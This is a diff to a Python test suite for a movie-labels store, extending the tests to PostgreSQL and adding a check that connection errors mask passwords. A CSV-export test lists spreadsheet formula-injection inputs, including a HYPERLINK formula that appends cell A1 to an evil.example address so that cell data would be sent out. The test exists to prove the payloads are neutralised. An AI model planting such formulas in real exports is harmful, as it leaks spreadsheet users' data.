@@ -1,17 +1,21 @@
 """The labels store: semantics of labels, skips and undo; CSV import/export; durability under
-SIGKILL; concurrent writers."""
+SIGKILL; concurrent writers. Tests taking ``label_store`` or ``store_locations`` run on every back
+end: SQLite, and PostgreSQL when a test server is given (``MARQUEE_TEST_POSTGRES_URL``; CI has one)."""
 from __future__ import annotations
 
 import csv
 import io
 import os
+import secrets
 import signal
+import socket
 import sqlite3
 import subprocess
 import sys
 import textwrap
 import threading
 import time
+from urllib.parse import urlsplit, urlunsplit
 
 import pytest
 
@@ -85,13 +89,13 @@ def test_store_is_wal_and_reopens(tmp_path):
     assert SQLiteLabelStore(path).labels("p", "c")["movie_id"].tolist() == [3]
 
 
-def test_csv_round_trip(label_store, tmp_path):
+def test_csv_round_trip(label_store, store_locations, tmp_path):
     s = label_store
     for movie_id, label in [(1, WOULD_WATCH), (2, WOULD_NOT_WATCH), (3, WOULD_WATCH_MANY)]:
         s.set_label("p", "c", movie_id, label, title=f"Film {movie_id}")
     path = tmp_path / "labels.csv"
     s.export_csv("p", "c", path)
-    other = SQLiteLabelStore(tmp_path / "other.sqlite")
+    other = open_store(store_locations())
     assert other.import_csv("q", "c", path, known_movie_ids={1, 2, 3}) == 3
     mine, theirs = s.labels("p", "c"), other.labels("q", "c")
     assert mine[["movie_id", "label", "title"]].equals(theirs[["movie_id", "label", "title"]])
@@ -99,7 +103,7 @@ def test_csv_round_trip(label_store, tmp_path):
 
 @pytest.mark.parametrize("title", ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)",
                                    "\tTab", "\rReturn", "'=already quoted"])
-def test_csv_export_neutralises_formulas_and_imports_back_unchanged(label_store, tmp_path, title):
+def test_csv_export_neutralises_formulas_and_imports_back_unchanged(label_store, store_locations, title):
     s = label_store
     s.set_label("p", "c", -1, WOULD_WATCH, title=title)  # a negative id is a number, never quoted
     text = s.export_csv("p", "c")
@@ -107,7 +111,7 @@ def test_csv_export_neutralises_formulas_and_imports_back_unchanged(label_store,
     assert rows[0]["movie_id"] == "-1"
     assert rows[0]["title"] == "'" + title
     assert not rows[0]["title"].startswith(FORMULA_LEADS)
-    other = SQLiteLabelStore(tmp_path / "other.sqlite")
+    other = open_store(store_locations())
     assert other.import_csv("q", "c", io.StringIO(text)) == 1
     assert other.labels("q", "c")["title"].tolist() == [title]
 
@@ -150,22 +154,32 @@ def test_csv_not_utf8_is_refused(label_store):
         label_store.import_csv("p", "c", io.BytesIO("movie_id,label\n1,would_watch\n".encode("utf-16")), name="upload.csv")
 
 
-def test_postgres_without_psycopg_is_a_clear_error():
-    pytest.importorskip("sqlite3")
-    try:
-        import psycopg  # noqa: F401
-        pytest.skip("psycopg is installed here; the missing-driver message cannot be shown")
-    except ImportError:
-        pass
+def test_postgres_without_psycopg_is_a_clear_error(monkeypatch):
+    monkeypatch.setitem(sys.modules, "psycopg", None)  # what a missing package looks like to import
     with pytest.raises(MarqueeError, match="needs the 'psycopg' package"):
         open_store("postgresql://user:secret@localhost/labels")
+
+
+def test_postgres_refusals_name_the_server_but_never_the_password(postgres_url):
+    """A wrong password (the CI server uses scram-sha-256) and a closed port: one clear line each,
+    the URL shown with its credentials masked."""
+    parts = urlsplit(postgres_url)
+    wrong = "wrong-" + secrets.token_hex(8)
+    with socket.socket() as probe:  # a port nothing listens on
+        probe.bind(("127.0.0.1", 0))
+        closed_port = probe.getsockname()[1]
+    for netloc in (f"{parts.username}:{wrong}@{parts.hostname}:{parts.port}",
+                   f"{parts.username}:{wrong}@127.0.0.1:{closed_port}"):
+        with pytest.raises(MarqueeError, match=r"cannot connect to the labels database postgresql://\*\*\*@") as info:
+            open_store(urlunsplit(parts._replace(netloc=netloc)))
+        assert wrong not in str(info.value) and "\n" not in str(info.value).strip()
 
 
 WRITER = textwrap.dedent("""
     import sys
     sys.path.insert(0, {root!r})
-    from core.personal.store import SQLiteLabelStore
-    store = SQLiteLabelStore({path!r})
+    from core.personal.store import open_store
+    store = open_store({location!r})
     start, count, profile = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
     for movie_id in range(start, start + count):
         label = "would_watch" if movie_id % 3 else "would_not_watch"
@@ -176,16 +190,17 @@ WRITER = textwrap.dedent("""
 """)
 
 
-def _writer(tmp_path, path, start, count, profile="p"):
+def _writer(tmp_path, location, start, count, profile="p"):
     script = tmp_path / "writer.py"
-    script.write_text(WRITER.format(root=str(PROJECT_ROOT), path=str(path)), encoding="utf-8")
+    script.write_text(WRITER.format(root=str(PROJECT_ROOT), location=str(location)), encoding="utf-8")
     return subprocess.Popen([sys.executable, str(script), str(start), str(count), profile],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
 
 
-def test_labels_survive_sigkill(tmp_path):
-    path = tmp_path / "labels.sqlite"
-    proc = _writer(tmp_path, path, 0, 1_000_000)
+def test_labels_survive_sigkill(tmp_path, store_locations):
+    location = store_locations()
+    open_store(location)  # the schema, before the clock starts
+    proc = _writer(tmp_path, location, 0, 1_000_000)
     confirmed = []
     deadline = time.monotonic() + 60
     while len(confirmed) < 150 and time.monotonic() < deadline:
@@ -200,24 +215,25 @@ def test_labels_survive_sigkill(tmp_path):
     proc.wait(timeout=30)
     assert proc.returncode == -signal.SIGKILL
     assert len(confirmed) >= 150
-    store = SQLiteLabelStore(path)
+    store = open_store(location)
     stored = set(store.labels("p", "cat")["movie_id"])
     assert set(confirmed) <= stored
     assert len(stored) - len(confirmed) <= 1  # at most the one committed but not yet printed
-    assert sqlite3.connect(path).execute("PRAGMA integrity_check").fetchone()[0] == "ok"
+    if isinstance(store, SQLiteLabelStore):
+        assert sqlite3.connect(store.path).execute("PRAGMA integrity_check").fetchone()[0] == "ok"
     store.set_label("p", "cat", -1, WOULD_WATCH)  # still writable after the crash
     assert -1 in set(store.labels("p", "cat")["movie_id"])
 
 
-def test_concurrent_writers_lose_nothing(tmp_path):
-    path = tmp_path / "labels.sqlite"
-    SQLiteLabelStore(path)  # create the schema once
+def test_concurrent_writers_lose_nothing(tmp_path, store_locations):
+    location = store_locations()
+    open_store(location)  # create the schema once
     per_writer, writers = 60, 3
-    procs = [_writer(tmp_path, path, i * 1000, per_writer) for i in range(writers)]
+    procs = [_writer(tmp_path, location, i * 1000, per_writer) for i in range(writers)]
     threads_done = []
 
     def thread_writer(offset):
-        store = SQLiteLabelStore(path)
+        store = open_store(location)
         for movie_id in range(offset, offset + 30):
             store.set_label("p", "cat", movie_id, WOULD_WATCH_MANY)
         threads_done.append(offset)
@@ -232,7 +248,7 @@ def test_concurrent_writers_lose_nothing(tmp_path):
         assert proc.returncode == 0, err
         assert len(out.split()) == per_writer
     assert len(threads_done) == 3
-    store = SQLiteLabelStore(path)
+    store = open_store(location)
     labels = store.labels("p", "cat")
     expected = {i * 1000 + k for i in range(writers) for k in range(per_writer)} | \
                {50_000 + 100 * i + k for i in range(3) for k in range(30)}
